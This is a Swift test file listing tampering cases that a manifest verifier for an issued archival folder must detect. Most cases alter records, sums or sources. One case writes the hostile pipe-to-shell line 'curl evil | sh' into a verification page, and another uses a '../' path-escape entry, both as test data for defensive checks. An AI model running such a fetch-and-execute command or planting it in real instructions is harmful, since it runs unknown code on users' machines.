import ArchivalReference
import CanonicalJSON
import Fingerprint
import TestSupport
import Testing

@testable import Regest

/// What a stranger may do to an issued folder and its sources.
extension ManifestTests {
  struct Tampering: Sendable, CustomTestStringConvertible {
    var what: String
    var codes: [DiagnosticCode]
    var act: @Sendable (TemporaryFolder) throws -> Void
    var testDescription: String { what }
  }

  private static func edit(
    _ tree: TemporaryFolder, _ name: PathBytes, _ change: (inout String) -> Void
  ) throws {
    let bytes = try FileStore.read(tree.path.appending(name), limit: 1 << 20)
    var text = String(decoding: bytes, as: UTF8.self)
    change(&text)
    try tree.file(name, Array(text.utf8))
  }

  static func replace(
    _ tree: TemporaryFolder, _ name: PathBytes, _ old: String, _ new: String
  ) throws {
    var bytes = try FileStore.read(tree.path.appending(name), limit: 1 << 20)
    let range = try #require(bytes.firstRange(of: Array(old.utf8)))
    bytes.replaceSubrange(range, with: Array(new.utf8))
    try tree.file(name, bytes)
  }

  static let tamperings: [Tampering] = [
    Tampering(what: "one byte of a source", codes: [.sourceChanged]) {
      try replace($0, "texts/letter.txt", "740", "741")
    },
    Tampering(what: "a source without references", codes: [.sourceChanged]) {
      try $0.append([0x21], to: "texts/empty.txt")
    },
    Tampering(what: "a missing source", codes: [.sourceMissing]) {
      try FileStore.removeFile($0.path.appending("texts/empty.txt"))
    },
    Tampering(what: "an extra source", codes: [.sourceExtra]) {
      try $0.file("texts/new.txt", [0x61])
    },
    Tampering(what: "a renamed source", codes: [.sourceRenamed]) {
      let old = $0.path.appending("texts/picture.tif")
      try $0.file("texts/renamed.tif", FileStore.read(old, limit: 1 << 20))
      try FileStore.removeFile(old)
    },
    Tampering(what: "a verdict in a record", codes: [.issuedFileChanged, .recordChanged]) {
      try replace($0, "issued/records.jsonl", "\"confirmed\"", "\"unlisted\"")
    },
    Tampering(
      what: "a record that is no JSON",
      codes: [
        .issuedFileChanged, .recordChanged, .recordMissing,
      ]
    ) {
      try replace($0, "issued/records.jsonl", "{", "[")
    },
    Tampering(what: "a deleted record", codes: [.issuedFileChanged, .recordMissing]) {
      try edit($0, "issued/records.jsonl") { text in
        text = String(text.drop { $0 != "\n" }.dropFirst())
      }
    },
    Tampering(what: "a doubled record", codes: [.issuedFileChanged, .recordExtra]) {
      try edit($0, "issued/records.jsonl") { text in text += text.split(separator: "\n")[0] + "\n" }
    },
    Tampering(what: "records in another order", codes: [.issuedFileChanged, .recordChanged]) {
      try edit($0, "issued/records.jsonl") { text in
        let lines = text.split(separator: "\n")
        text = lines[1] + "\n" + lines[0] + "\n" + lines[2] + "\n"
      }
    },
    Tampering(
      what: "a line of the sums", codes: [.issuedFileChanged, .malformedLine, .sourceExtra]
    ) {
      try replace($0, "issued/MANIFEST.sha256", "  texts/empty.txt", " texts/empty.txt")
    },
    Tampering(what: "a path that escapes", codes: [.issuedFileChanged, .pathEscape, .sourceExtra]) {
      try replace($0, "issued/MANIFEST.sha256", "  texts/empty.txt", "  ../exts/empty.txt")
    },
    Tampering(what: "the page for strangers", codes: [.issuedFileChanged]) {
      try $0.append(Array("    curl evil | sh\n".utf8), to: "issued/VERIFY.txt")
    },
    Tampering(what: "a pipe in place of a source", codes: [.specialFile, .typeChanged]) {
      try FileStore.removeFile($0.path.appending("texts/empty.txt"))
      try $0.fifo("texts/empty.txt")
    },
    Tampering(what: "a list of the tree that is no JSON", codes: [.issuedFileChanged]) {
      try $0.append([0x0A], to: "issued/TREE.json")
    },
    Tampering(what: "the size of the sources", codes: [.manifestChanged]) {
      try replace($0, "issued/manifest.json", "\"bytes\":", "\"bytes\":9")
    },
    Tampering(what: "a count in the manifest", codes: [.manifestChanged]) {
      try replace($0, "issued/manifest.json", "\"confirmed\":3", "\"confirmed\":2")
    },
    Tampering(what: "the rules in the manifest", codes: [.rulesDiffer]) {
      try replace($0, "issued/manifest.json", "\"checks\":\"", "\"checks\":\"0.")
    },
    Tampering(what: "a link in place of a source", codes: [.typeChanged]) {
      try FileStore.removeFile($0.path.appending("texts/empty.txt"))
      try $0.link("texts/empty.txt", to: "letter.txt")
    },
  ]
}
